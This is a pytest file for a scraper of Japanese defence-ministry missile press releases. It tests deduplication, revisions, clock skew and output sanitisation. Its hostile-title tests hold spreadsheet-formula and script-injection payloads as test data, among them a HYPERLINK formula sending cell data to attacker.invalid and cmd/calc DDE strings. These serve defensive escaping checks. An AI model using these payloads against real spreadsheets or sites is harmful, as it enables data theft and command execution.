"""Data faults, each through `launchfeed collect` against the fixture copy of www.mod.go.jp on
127.0.0.1: a release served again with tiny markup changes, a release the ministry edits after
publication, clocks that disagree (the server's, the machine's), and release titles written to
attack a spreadsheet or a browser. What is checked is what a user gets: the store's documents
and revisions, the output files, the change log, the report."""

from __future__ import annotations

import csv
import hashlib
import html
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime, parsedate_to_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from launchfeed.output import store as store_module
from launchfeed.output.store import Store
from launchfeed.output.writers import FORMULA_PREFIXES, INERT_VALUE, XML_FORBIDDEN
from launchfeed.scrapers import mod_jp
from site_mod_jp import ROOT, build_mod_jp_site
from sitekit import Request, Response

from launchfeed.cli import main

JST = ZoneInfo("Asia/Tokyo")
RELEASE_PATH = "/j/press/news/2026/09/14b.html"
RELEASE_URL = "https://www.mod.go.jp" + RELEASE_PATH
PAGE = (ROOT / RELEASE_PATH.lstrip("/")).read_text(encoding="utf-8")
FLASH_PATH = "/j/press/news/2026/10/03a.html"  # behind the bot check in the fixture site


class MachineClock(datetime):
    """``datetime`` as the store sees it: ``now()`` moved by ``skew``, a machine clock set wrong."""

    skew = timedelta(0)

    @classmethod
    def now(cls, tz=None):  # type: ignore[override]
        return datetime.now(tz) + cls.skew


@pytest.fixture
def clock(monkeypatch, tmp_path) -> type[MachineClock]:
    """Japan a day after the release, so it is young enough to be fetched again on every run (as the
    ministry's young releases are); the machine's clock is the real one until a test skews it."""
    monkeypatch.setattr(MachineClock, "skew", timedelta(0))
    start = datetime.now(UTC)
    japan = datetime(2026, 9, 15, 12, 0, tzinfo=JST)
    monkeypatch.setattr(mod_jp, "now_jst", lambda: japan + (datetime.now(UTC) - start) + MachineClock.skew)
    monkeypatch.setattr(store_module, "datetime", MachineClock)
    monkeypatch.chdir(tmp_path)
    return MachineClock


def collect(site, out: Path, capsys) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["collect", "--source", "mod_jp", "--base-url", site.base_url, "--out", str(out), "--delay", "0"])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def outputs(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in out.iterdir() if p.is_file() and p.suffix in (".csv", ".jsonl", ".atom")}


def release_state(out: Path) -> tuple[dict, list[dict], list[str]]:
    """The release's document row, its revisions, and the kinds of change logged about it."""
    store = Store(out / "launchfeed.sqlite")
    try:
        document = dict(store.db.execute("SELECT * FROM documents WHERE url = ?", (RELEASE_URL,)).fetchone())
        revisions = store.document_revisions(document["id"])
        kinds = [row["kind"] for row in store.db.execute("SELECT kind FROM changes WHERE object_id = ?",
                                                         (document["id"],))]  # fmt: skip
        return document, revisions, kinds
    finally:
        store.close()


def count_documents(out: Path) -> int:
    store = Store(out / "launchfeed.sqlite")
    try:
        return store.db.execute("SELECT COUNT(*) FROM documents").fetchone()[0]
    finally:
        store.close()


# -- the same release with tiny markup changes ----------------------------------------------------------

NAV = re.search(r"<header>.*</header>", PAGE).group(0)
MARKUP_CHANGES = {
    "indentation and line breaks between tags": lambda page: (
        page.replace("<p>", "\n    <p>\n      ").replace("</p>", "\n    </p>\n").replace("<div", "\n  <div")
    ),
    "attributes reordered, requoted and added": lambda page: page.replace(
        '<main id="main">', "<main role='main' id=main>"
    ).replace('<h1 class="c-heading">', '<h1 id="page-title" class="c-heading js-title">'),
    "a new tracking script": lambda page: page.replace(
        "<script>window.dataLayer = [];</script>",
        '<script>window.dataLayer = [{"page": "press", "build": 4711}];</script>'
        "<script>(function(){var t=document.createElement('img');t.src='/beacon?'+Date.now();})();</script>",
    ),
    "a new navigation menu and footer": lambda page: page.replace(
        NAV,
        '<header><nav class="gnav"><ul><li><a href="/j/index.html">トップ</a></li><li><a href="/j/policy/">政策'
        '</a></li><li><a href="/j/press/">報道・白書</a></li></ul></nav></header>',
    ).replace("<footer>防衛省・自衛隊</footer>", "<footer><p>Copyright 防衛省</p><p>サイトマップ</p></footer>"),
    "the text re-wrapped inside a sentence": lambda page: page.replace(
        "１１時４２分頃、", "１１時４２分頃、\n  "
    ).replace("最高高度", "\n最高高度"),
    "a comment and a non-breaking space": lambda page: page.replace(
        '<div class="c-article">', '<div class="c-article"><!-- 本文 ここから -->&nbsp;'
    ),
}


def test_the_same_release_with_tiny_markup_changes_stays_one_document(site, tmp_path, clock, capsys):
    build_mod_jp_site(site)
    out = tmp_path / "out"
    assert collect(site, out, capsys)[0] == 0
    before = outputs(out)
    documents = count_documents(out)
    page = PAGE
    for change, edit in MARKUP_CHANGES.items():
        page = edit(page)
        assert page != PAGE
        site.add(RELEASE_PATH, page)
        asked = len(site.log)
        code, said = collect(site, out, capsys)
        assert (code, said) == (0, "nothing new from 1 source; no files written\n"), change
        # it was fetched whole again (a new body, no 304) and archived before parsing
        [request] = [r for r in site.log[asked:] if r.path == RELEASE_PATH]
        assert "if-none-match" in request.headers
        sha = hashlib.sha256(page.encode("utf-8")).hexdigest()
        assert (out / "archive" / sha[:2] / sha[2:4] / sha).is_file(), change
        document, revisions, kinds = release_state(out)
        assert (document["revision"], len(revisions), kinds) == (1, 1, ["new_document"]), change
        assert count_documents(out) == documents and outputs(out) == before, change
    rows = [row for row in csv_rows(out / "statements.csv") if row["url"] == RELEASE_URL]
    assert len(rows) == 1 and rows[0]["range_km"] == "650"


# -- a release edited after publication -------------------------------------------------------------------


def test_a_release_edited_after_publication_becomes_a_new_revision_and_the_old_is_kept(site, tmp_path, clock, capsys):
    build_mod_jp_site(site)
    out = tmp_path / "out"
    assert collect(site, out, capsys)[0] == 0
    [old_row] = [row for row in csv_rows(out / "statements.csv") if row["url"] == RELEASE_URL]
    assert old_row["range_km"] == "650"
    documents = count_documents(out)

    site.add(RELEASE_PATH, PAGE.replace("約６５０ｋｍ飛翔", "約７００ｋｍ飛翔"))  # the ministry corrects the range
    code, said = collect(site, out, capsys)
    assert code == 0
    lines = said.splitlines()
    assert any(line.startswith("revised statement  mod_jp 2026-09-14") and "[range_km 650 → 700; " in line
               for line in lines), said  # fmt: skip
    assert any(line.startswith("revised launch ") and "range_km 650 → 700" in line for line in lines), said
    assert lines[-1].startswith("1 new or revised documents, 0 new statements, 1 revised; wrote ")

    document, revisions, kinds = release_state(out)
    assert count_documents(out) == documents  # one document, not two
    assert document["revision"] == 2 and "約７００ｋｍ" in document["text"]
    assert [r["revision"] for r in revisions] == [1, 2]
    assert "約６５０ｋｍ" in revisions[0]["text"] and "約７００ｋｍ" in revisions[1]["text"]
    # both snapshots stay in the archive: the first version can be read and replayed
    assert revisions[0]["raw_path"] != revisions[1]["raw_path"]
    assert all((out / "archive" / r["raw_path"]).is_file() for r in revisions)
    assert kinds == ["new_document", "revised_document"]

    [row] = [row for row in csv_rows(out / "statements.csv") if row["url"] == RELEASE_URL]
    assert row["range_km"] == "700" and row["report_id"] == old_row["report_id"]  # the same row, updated
    assert [r["range_km"] for r in csv_rows(out / "launches.csv") if old_row["report_id"] in r["report_ids"]] == ["700"]

    capsys.readouterr()
    assert main(["changes", "--out", str(out)]) == 0
    text = capsys.readouterr().out.splitlines()
    assert re.fullmatch(r"run \d+ collect \S+ ok", text[0]) and text[1] == "  documents: 1 revised"
    assert any(line.startswith("  revised statement  mod_jp 2026-09-14") and "[range_km 650 → 700; " in line
               for line in text)  # fmt: skip
    assert main(["changes", "--out", str(out), "--json"]) == 0
    logged = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {"kind": "revised_value", "field": "range_km", "old": [650.0], "new": [700.0], "url": RELEASE_URL} in [
        {key: change[key] for key in ("kind", "field", "old", "new", "url")} for change in logged
    ]


# -- clocks that disagree ---------------------------------------------------------------------------------


class SkewedServer:
    """The release from a host whose clock runs hours behind (its Date header) and which stamps its
    files days ahead (Last-Modified); it sends no ETag and answers If-Modified-Since by comparing
    dates, as common servers do."""

    def __init__(self, body: str, last_modified: datetime) -> None:
        self.body, self.last_modified = body.encode("utf-8"), last_modified

    def __call__(self, request: Request) -> Response:
        date = format_datetime(datetime.now(UTC) - timedelta(hours=7), usegmt=True)
        since = request.headers.get("if-modified-since")
        if since and parsedate_to_datetime(since) >= self.last_modified:
            return Response(b"", 304, {"Date": date}, conditional=False)
        headers = {"Content-Type": "text/html; charset=utf-8", "Date": date,
                   "Last-Modified": format_datetime(self.last_modified, usegmt=True)}  # fmt: skip
        return Response(self.body, 200, headers, conditional=False)


def test_a_server_clock_hours_off_and_a_last_modified_in_the_future(site, tmp_path, clock, capsys):
    build_mod_jp_site(site)
    future = (datetime.now(UTC) + timedelta(days=2)).replace(microsecond=0)
    site.add(RELEASE_PATH, SkewedServer(PAGE, future))
    out = tmp_path / "out"
    assert collect(site, out, capsys)[0] == 0
    documents = count_documents(out)

    # the machine's clock is moved back a day: the server's own Last-Modified is sent back verbatim
    clock.skew = -timedelta(days=1)
    asked = len(site.log)
    assert collect(site, out, capsys) == (0, "nothing new from 1 source; no files written\n")
    [request] = [r for r in site.log[asked:] if r.path == RELEASE_PATH]
    assert request.headers["if-modified-since"] == format_datetime(future, usegmt=True)
    assert count_documents(out) == documents and release_state(out)[0]["revision"] == 1

    # the ministry edits the release; its new stamp is an hour after the old one (still in the future)
    site.add(
        RELEASE_PATH, SkewedServer(PAGE.replace("約６５０ｋｍ飛翔", "約７００ｋｍ飛翔"), future + timedelta(hours=1))
    )
    code, said = collect(site, out, capsys)
    assert code == 0 and "[range_km 650 → 700; " in said
    document, revisions, _ = release_state(out)
    assert count_documents(out) == documents and document["revision"] == 2 and len(revisions) == 2
    assert [r["range_km"] for r in csv_rows(out / "statements.csv") if r["url"] == RELEASE_URL] == ["700"]


FLASH = """<!DOCTYPE html>
<html lang="ja"><head><meta charset="UTF-8"><title>北朝鮮のミサイル等関連情報（速報）</title></head>
<body><main id="main">
<h1>北朝鮮のミサイル等関連情報（速報）</h1>
<p>令和８年１０月３日<br>防衛省</p>
<p>１．北朝鮮は本日６時１５分頃、北朝鮮西岸付近から、弾道ミサイルの可能性があるものを発射しました。</p>
<p>２．続報は分かり次第お知らせします。</p>
</main></body></html>
"""


def failure_retry_after(out: Path, path: str) -> str | None:
    store = Store(out / "launchfeed.sqlite")
    try:
        row = store.db.execute("SELECT retry_after FROM fetch_failures WHERE url LIKE ?", ("%" + path,)).fetchone()
        return row["retry_after"] if row else None
    finally:
        store.close()


def test_a_machine_clock_moved_back_does_not_lock_a_failed_item_out(site, tmp_path, clock, capsys):
    build_mod_jp_site(site)
    out = tmp_path / "out"
    clock.skew = timedelta(days=400)  # the machine's clock runs far ahead while the flash is behind the bot check
    assert collect(site, out, capsys)[0] == 0
    waited_until = failure_retry_after(out, FLASH_PATH)
    assert waited_until is not None and waited_until > (datetime.now(UTC) + timedelta(days=399)).isoformat()

    site.add(FLASH_PATH, FLASH)  # the bot check is gone
    asked = len(site.log)
    assert collect(site, out, capsys)[0] == 0
    assert not [r for r in site.log[asked:] if r.path == FLASH_PATH]  # its backoff is honoured

    clock.skew = timedelta(0)  # the clock is set right: a year before the failure was "recorded"
    asked = len(site.log)
    code, said = collect(site, out, capsys)
    assert code == 0 and [r.path for r in site.log[asked:] if r.path == FLASH_PATH] == [FLASH_PATH]
    assert "https://www.mod.go.jp" + FLASH_PATH in said
    assert failure_retry_after(out, FLASH_PATH) is None
    urls = [row["url"] for row in csv_rows(out / "statements.csv")]
    assert urls.count("https://www.mod.go.jp" + FLASH_PATH) == 1 and len(urls) == len(set(urls))


# -- titles that attack a spreadsheet or a browser ------------------------------------------------------

HOSTILE_TITLES = {
    RELEASE_PATH: '=HYPERLINK("http://attacker.invalid/?d="&A1,"（続報）")<script>alert("title")</script>',
    "/j/press/news/2026/09/14c.html": "+SUM(1+1)*cmd|' /C calc'!A0 北朝鮮のミサイル等関連情報（続報）",
    "/j/press/news/2026/09/14d.html": "-2+3+cmd|' /C notepad'!A1 北朝鮮のミサイル等関連情報（続報）",
    "/j/press/news/2026/09/14e.html": "@SUM(9*9) 北朝鮮のミサイル等関連情報（続報）<img src=x onerror=alert(2)>",
}


def hostile_site(site) -> None:
    build_mod_jp_site(site)
    heading = '<h1 class="c-heading">北朝鮮のミサイル等関連情報（続報）</h1>'
    for path, title in HOSTILE_TITLES.items():
        site.add(path, PAGE.replace(heading, f'<h1 class="c-heading">{html.escape(title)}</h1>'))
    items = "".join(
        f"<item><title>北朝鮮のミサイル等関連情報（続報）</title><link>{path}</link></item>\n"
        for path in HOSTILE_TITLES
    )
    news = (ROOT / "j/rss/news.xml").read_text(encoding="utf-8")
    site.add("/j/rss/news.xml", news.replace("<item>", items + "<item>", 1),
             content_type="application/rss+xml; charset=UTF-8")  # fmt: skip


def assert_no_formula(name: str, text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or INERT_VALUE.fullmatch(cell), f"{name}: {cell!r}"


def test_titles_with_formulas_and_markup_are_neutralized_in_csv_and_escaped_in_html(site, tmp_path, clock, capsys):
    hostile_site(site)
    out = tmp_path / "out"
    assert collect(site, out, capsys)[0] == 0
    titles = {row["url"].removeprefix("https://www.mod.go.jp"): row["title"]
              for row in csv_rows(out / "statements.csv")}  # fmt: skip
    for path, title in HOSTILE_TITLES.items():
        assert titles[path] == "'" + title  # shown as text by a spreadsheet, the text itself intact
    for csv_file in out.glob("*.csv"):
        assert_no_formula(csv_file.name, csv_file.read_text(encoding="utf-8"))
    # JSON Lines is data for programs: the title as published
    published = {json.loads(line)["url"].removeprefix("https://www.mod.go.jp"): json.loads(line)["title"]
                 for line in (out / "statements.jsonl").read_text(encoding="utf-8").splitlines()}  # fmt: skip
    assert all(published[path] == title for path, title in HOSTILE_TITLES.items())
    # what `launchfeed query` prints as CSV is neutralized too
    capsys.readouterr()
    assert main(["query", "statements", "--out", str(out), "--text", "SUM"]) == 0
    printed = capsys.readouterr().out
    assert len(list(csv.DictReader(io.StringIO(printed)))) == 2
    assert_no_formula("query output", printed)

    # the Atom feed is well-formed XML whose HTML content shows the titles as text
    feed = ET.parse(out / "launches.atom").getroot()
    contents = [element.text or "" for element in feed.iter("{http://www.w3.org/2005/Atom}content")]
    content = "".join(contents)
    assert html.escape(HOSTILE_TITLES[RELEASE_PATH], quote=False) in content.replace("&quot;", '"')
    assert "<script" not in content and "<img" not in content

    assert main(["report", "--out", str(out)]) == 0
    page = (out / "report.html").read_text(encoding="utf-8")
    assert '<script>alert("title")' not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert page.count("<script") == 1  # the report's own


# -- characters XML forbids in a title ---------------------------------------------------------------------

CONTROL_TITLE = "北朝鮮のミサイル等関連情報\x1b[31m（続報）\x07\x08"


def test_characters_xml_forbids_in_a_title_reach_no_output_file(site, tmp_path, clock, capsys):
    build_mod_jp_site(site)
    heading = '<h1 class="c-heading">北朝鮮のミサイル等関連情報（続報）</h1>'
    site.add(RELEASE_PATH, PAGE.replace(heading, f'<h1 class="c-heading">{CONTROL_TITLE}</h1>'))
    out = tmp_path / "out"
    assert collect(site, out, capsys)[0] == 0
    assert main(["report", "--out", str(out)]) == 0
    assert "\x1b" in release_state(out)[0]["title"]  # the store keeps the title as published
    for path in out.iterdir():
        if path.is_file() and path.suffix in (".csv", ".jsonl", ".atom", ".html", ".json"):
            text = path.read_text(encoding="utf-8")
            assert not XML_FORBIDDEN.search(text), path.name
            for line in text.splitlines() if path.suffix == ".jsonl" else []:  # nor escaped as \\u001b
                assert not XML_FORBIDDEN.search(json.dumps(json.loads(line), ensure_ascii=False)), path.name
    ET.parse(out / "launches.atom")  # well-formed XML
    shown = "北朝鮮のミサイル等関連情報[31m（続報）"
    assert [row["title"] for row in csv_rows(out / "statements.csv") if row["url"] == RELEASE_URL] == [shown]
    assert shown in (out / "report.html").read_text(encoding="utf-8")
